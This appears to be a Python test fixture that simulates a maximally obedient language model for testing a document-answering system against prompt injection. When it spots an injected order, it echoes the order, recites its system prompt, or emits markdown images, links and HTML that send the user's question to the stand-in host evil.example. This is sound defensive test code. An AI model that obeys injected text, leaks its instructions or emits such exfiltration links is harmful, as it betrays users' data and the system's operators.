"""A model that obeys whatever it is told: the worst reader of a hostile document.

It follows the last order that stands in its messages, whoever wrote it and however it is fenced.
What orders are it is told beforehand (``Obedient.order``), since no script understands them; an
order counts as read when one of its sentences stands in the prompt.
"""

import re
from dataclasses import dataclass
from typing import Any

SIGN = "PELICAN"
HOST = "evil.example"


@dataclass
class Obedient:
    """``says`` for ``tests.model_server.Script``. ``way`` is what it does when it obeys.

    ``words`` (says what it was told, with a footnote), ``links`` (adds a link, an image and HTML
    that carry the question away) or ``rules`` (recites its own).
    """

    order: str = ""
    way: str = "words"
    obeyed: int = 0

    def __call__(self, request: dict[str, Any]) -> str:
        messages = [str(message["content"]) for message in request["messages"]]
        if not self.order or not self._reads(" ".join(" ".join(messages[1:]).split())):
            return honest(messages[-1])
        self.obeyed += 1
        return self._obey(messages)

    def _reads(self, said: str) -> bool:
        sentences = re.split(r"(?<=[.!?:\n])\s+", " ".join(self.order.split()))
        return any(one in said for one in sentences if len(one) >= 12) or (
            " ".join(self.order.split()) in said
        )

    def _obey(self, messages: list[str]) -> str:
        if self.way == "rules":
            return messages[0]
        if self.way == "words":
            return f"{SIGN} says: {self.order[:200]} [1]."
        stolen = re.sub(r"\W+", "+", messages[-1][-120:])
        return (
            f"{honest(messages[-1])} ![logo](https://{HOST}/i.png?q={stolen}) "
            f"[Read more](https://{HOST}/more?q={stolen}) <img src='https://{HOST}/x?q={stolen}'> "
            f"<https://{HOST}/a?q={stolen}> https://{HOST}/b?q={stolen} and "
            f"[more][1].\n\n[1]: https://{HOST}/c?q={stolen}\n"
        )


def honest(prompt: str) -> str:
    """The first sentence of the first passage, with its mark."""
    found = re.search(r"passage 1: [^\n]*>>>\n(.*?)\n<<<", prompt, re.DOTALL)
    sentence = re.split(r"(?<=[.!?])\s", found.group(1).strip())[0] if found else ""
    return f"{sentence.rstrip('.!?')} [1]." if sentence else "NOT_IN_DOCUMENTS"
